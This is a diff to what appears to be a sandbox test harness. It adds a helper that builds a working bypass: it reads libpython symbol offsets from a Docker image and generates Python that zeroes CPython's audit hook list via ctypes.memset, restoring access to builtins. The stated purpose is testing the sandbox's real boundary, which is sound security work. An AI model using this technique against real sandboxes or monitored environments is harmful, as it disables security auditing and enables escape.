@@ -22,6 +22,8 @@ import os
 import re
 import signal
 import socket
+import subprocess
+import tempfile
 import ssl
 import struct
 import sys
@@ -657,3 +659,54 @@ def fcgi_params(method, path, content_type=None, content_length=None):
         "SERVER_ADDR": "127.0.0.1", "SERVER_PORT": "8080", "SERVER_NAME": "localhost",
         "REDIRECT_STATUS": "200", "HTTP_HOST": "localhost",
     }
+
+
+# ---------------------------------------------------------------- the tripwire, bypassed
+# The runner's restricted builtins and C audit hook are a tripwire, not the boundary. To
+# test the boundary, a program first does what an attacker would: it removes the audit hook
+# by zeroing _PyRuntime.audit_hook_head through ctypes.memset (foreign calls are not audited
+# in 3.11). The address comes from the image's own libpython: id(int) is &PyLong_Type, and
+# the offsets of PyLong_Type and _PyRuntime are read with nm from a copy of the image's
+# library; the field's offset comes from CPython's internal headers on the host (the same
+# 3.11.2 as the image).
+
+PYCAGE_IMAGE = os.environ.get("PYCAGE_IMAGE", "pycage-sandbox:latest")
+LIBPYTHON = "/usr/lib/x86_64-linux-gnu/libpython3.11.so.1.0"
+_bypass_cache = []
+
+
+def _run(argv, **kw):
+    return subprocess.run(argv, capture_output=True, text=True, check=True, timeout=120, **kw)
+
+
+def hook_bypass_prelude():
+    """Python source that removes the runner's audit hook and binds `builtins`."""
+    if _bypass_cache:
+        return _bypass_cache[0]
+    work = tempfile.mkdtemp(prefix="pycage-bypass-")
+    container = _run(["/usr/bin/docker", "create", PYCAGE_IMAGE]).stdout.strip()
+    try:
+        _run(["/usr/bin/docker", "cp", f"{container}:{LIBPYTHON}", f"{work}/libpython.so"])
+    finally:
+        subprocess.run(["/usr/bin/docker", "rm", "-f", container], capture_output=True)
+    symbols = {}
+    for line in _run(["nm", "-D", f"{work}/libpython.so"]).stdout.splitlines():
+        cols = line.split()
+        if len(cols) == 3 and cols[2] in ("PyLong_Type", "_PyRuntime"):
+            symbols[cols[2]] = int(cols[0], 16)
+    with open(f"{work}/off.c", "w") as f:
+        f.write("#define Py_BUILD_CORE 1\n#include <Python.h>\n"
+                "#include <internal/pycore_runtime.h>\n#include <stdio.h>\n#include <stddef.h>\n"
+                "int main(void) { printf(\"%zu\", offsetof(_PyRuntimeState, audit_hook_head));"
+                " return 0; }\n")
+    cflags = _run(["pkg-config", "--cflags", "python3-embed"]).stdout.split()
+    _run(["gcc", *cflags, f"{work}/off.c", "-o", f"{work}/off"])
+    field = int(_run([f"{work}/off"]).stdout)
+    if len(symbols) != 2:
+        raise Unexpected(f"symbols not found in the image's libpython: {symbols}")
+    prelude = (
+        "builtins = print.__self__\n"
+        "builtins.__import__('ctypes').memset("
+        f"id(int) - {symbols['PyLong_Type']:#x} + {symbols['_PyRuntime']:#x} + {field}, 0, 8)\n")
+    _bypass_cache.append(prelude)
+    return prelude
